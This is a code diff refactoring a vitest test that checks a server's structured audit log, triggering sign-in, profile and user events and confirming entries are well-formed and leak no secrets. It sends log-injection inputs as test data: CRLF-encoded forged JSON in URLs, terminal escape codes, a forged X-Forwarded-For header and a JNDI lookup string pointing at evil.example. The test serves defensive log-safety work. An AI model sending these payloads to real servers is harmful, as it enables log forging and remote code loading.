@@ -2,8 +2,9 @@ import { expect } from 'vitest';
 import { ADMINISTRATOR } from '../../../src/server/testing/server-process.ts';
 import { defineCase } from '../../support/define-case.ts';
 import { runConcurrently } from '../../support/measures/measures.ts';
-import { sendRaw } from '../../support/raw-http.ts';
+import { rawRequest, sendRaw } from '../../support/raw-http.ts';
 import type { Site } from '../../support/server-under-test.ts';
+import { words } from '../../support/words.ts';
 
 const { email, password } = ADMINISTRATOR;
 const WRONG = 'a password that nobody has';
@@ -36,15 +37,8 @@ const EVENTS: Readonly<Record<string, readonly string[]>> = {
   stopping: ['reason'],
 };
 /** The problem codes that must be in the log, each with address, method and path. */
-const PROBLEM_CODES = [
-  'NO_SESSION',
-  'SIGN_IN_REFUSED',
-  'CODE_REFUSED',
-  'FORBIDDEN',
-  'INVALID_BODY',
-  'TOO_MANY_REQUESTS',
-  'CONFIRM_PASSWORD',
-];
+const PROBLEM_CODES = words(`
+  NO_SESSION SIGN_IN_REFUSED CODE_REFUSED FORBIDDEN INVALID_BODY TOO_MANY_REQUESTS CONFIRM_PASSWORD`);
 
 defineCase(
   {
@@ -68,23 +62,24 @@ defineCase(
     const entries = lines.map((line) => JSON.parse(line) as Record<string, unknown>);
     for (const entry of entries) {
       expect(String(entry.time)).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
-      expect([entry, typeof entry.event]).toEqual([entry, 'string']);
+      expect(entry).toMatchObject({ event: expect.any(String) });
     }
     for (const [event, fields] of Object.entries(EVENTS)) {
       const [match] = entries.filter((entry) => entry.event === event);
-      expect([event, fields.filter((field) => match?.[field] === undefined)]).toEqual([event, []]);
+      expect(
+        fields.filter((field) => match?.[field] === undefined),
+        event,
+      ).toEqual([]);
     }
     const rejections = entries.filter(({ event }) => event === 'refused');
     for (const problem of PROBLEM_CODES) {
       const matching = rejections.filter((entry) => entry.problem === problem);
-      expect([problem, matching.length > 0]).toEqual([problem, true]);
+      expect(matching, problem).not.toEqual([]);
       for (const { ip, method, path } of matching)
-        expect([
-          problem,
-          path,
-          ip !== undefined || String(path).includes('/prayer-request/'),
-          typeof method,
-        ]).toEqual([problem, path, true, 'string']);
+        expect(
+          [ip !== undefined || String(path).includes('/prayer-request/'), typeof method],
+          `${problem} ${path}`,
+        ).toEqual([true, 'string']);
     }
     const log = lines.join('\n');
     expect(secrets.filter((secret) => log.includes(secret))).toEqual([]);
@@ -110,26 +105,16 @@ async function triggerAllEvents(site: Site): Promise<string[]> {
   };
   const token = await signIn();
   const me = { name: MALICIOUS_NAME, email };
-  await site.call('/api/auth/profile', { method: 'PUT', token, body: me });
-  await site.call('/api/auth/profile', {
-    method: 'PUT',
-    token,
-    body: { ...me, password: NEW, currentPassword: WRONG },
-  });
-  await site.call('/api/auth/profile', {
-    method: 'PUT',
-    token,
-    body: { ...me, password: NEW, currentPassword: password },
-  });
+  for (const currentPassword of [undefined, WRONG, password]) {
+    const body = { ...me, ...(currentPassword && { password: NEW, currentPassword }) };
+    await site.call('/api/auth/profile', { method: 'PUT', token, body });
+  }
 
   const deacon = { name: MALICIOUS_NAME, email: 'deacon@stthomas.example' };
   const { json: created } = await site.call('/api/users', { token, body: { ...deacon, password: FIRST } });
   const path = `/api/users/${created?.id}`;
-  await site.call(path, {
-    method: 'PUT',
-    token,
-    body: { ...deacon, isActive: true, password: `${FIRST} again` },
-  });
+  const changed = { ...deacon, isActive: true, password: `${FIRST} again` };
+  await site.call(path, { method: 'PUT', token, body: changed });
   await site.call(`${path}/sessions`, { method: 'DELETE', token });
   await site.call(path, { method: 'DELETE', token });
   const own = await site.call('/api/auth/me', { token });
@@ -153,13 +138,11 @@ async function triggerAllEvents(site: Site): Promise<string[]> {
 
 /** Sends line breaks, control characters and JSON in URLs, user agents and headers. */
 async function sendMaliciousRequests(site: Site, token: string): Promise<void> {
-  const { host } = new URL(site.server.address);
+  const { address } = site.server;
   const urls = [
-    '/api/%0d%0a%7B%22event%22%3A%22forged%22%7D',
-    '/api/users/%1b%5b2J',
-    `/api/events/"},${FORGED}`,
-    '/%0a%0a',
-    '/api/users/\u009b',
+    ...words(`
+      /api/%0d%0a%7B%22event%22%3A%22forged%22%7D /api/users/%1b%5b2J /%0a%0a`),
+    ...[`/api/events/"},${FORGED}`, '/api/users/\u009b'],
   ];
   const userAgents = [
     ESCAPES,
@@ -170,12 +153,12 @@ async function sendMaliciousRequests(site: Site, token: string): Promise<void> {
     'jndi:ldap://evil.example/a',
   ];
   // a path that is not valid UTF-8
-  await sendRaw(site.server.address, `GET /%ff%fe HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`);
+  await sendRaw(address, rawRequest(address, 'GET /%ff%fe HTTP/1.1'));
   for (const url of urls)
     for (const userAgent of userAgents)
-      for (const authorization of ['', `Authorization: Bearer ${token}\r\n`])
-        await sendRaw(
-          site.server.address,
-          `DELETE ${url.replaceAll(' ', '%20')} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: ${userAgent}\r\nX-Forwarded-For: ${FORGED}\r\n${authorization}Connection: close\r\n\r\n`,
-        );
+      for (const authorization of [[], [`Authorization: Bearer ${token}`]]) {
+        const headers = [`User-Agent: ${userAgent}`, `X-Forwarded-For: ${FORGED}`, ...authorization];
+        const line = `DELETE ${url.replaceAll(' ', '%20')} HTTP/1.1`;
+        await sendRaw(address, rawRequest(address, line, headers));
+      }
 }
